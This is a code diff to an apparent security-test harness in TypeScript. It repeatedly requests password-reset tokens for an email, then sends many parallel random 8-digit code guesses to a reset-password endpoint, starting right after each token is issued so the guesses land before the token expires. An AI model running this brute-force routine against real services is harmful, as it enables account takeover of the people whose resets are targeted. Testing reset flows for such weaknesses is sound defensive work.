@@ -24,26 +24,31 @@ export const run: Run = async (trial, options) => {
     })
     const { url } = product
     const tokens: string[] = []
+    let guesses = 0
+    let right = 0
+    async function guess(token: string): Promise<void> {
+      const code = String(Math.floor(Math.random() * 10 ** 8)).padStart(8, '0')
+      const body = { token, code, newpass: 'nine other floors' }
+      const { status } = answerOf(await call(url, '/app/client/auth/resetpassword', body, undefined, from()))
+      guesses += 1
+      if (status === true) right += 1
+    }
     const asking = repeat(
       2,
       async () => {
         const { token } = answerOf(
           await call(url, '/app/client/auth/forgetpassword', { email }, undefined, from()),
         )
-        if (token) tokens.push(token)
+        if (!token) return
+        tokens.push(token)
+        // Ten minutes are over in a moment.
+        await Promise.all(Array.from({ length: clients }, () => guess(token)))
       },
       20,
     )
-    let guesses = 0
-    let right = 0
     const guessing = repeat(clients, async () => {
       const token = tokens[Math.floor(Math.random() * tokens.length)]
-      if (!token) return sleep(10)
-      const code = String(Math.floor(Math.random() * 10 ** 8)).padStart(8, '0')
-      const body = { token, code, newpass: 'nine other floors' }
-      const { status } = answerOf(await call(url, '/app/client/auth/resetpassword', body, undefined, from()))
-      guesses += 1
-      if (status === true) right += 1
+      await (token ? guess(token) : sleep(10))
     })
     await sleep(seconds * 1000)
     await Promise.all([asking.stop(), guessing.stop()])
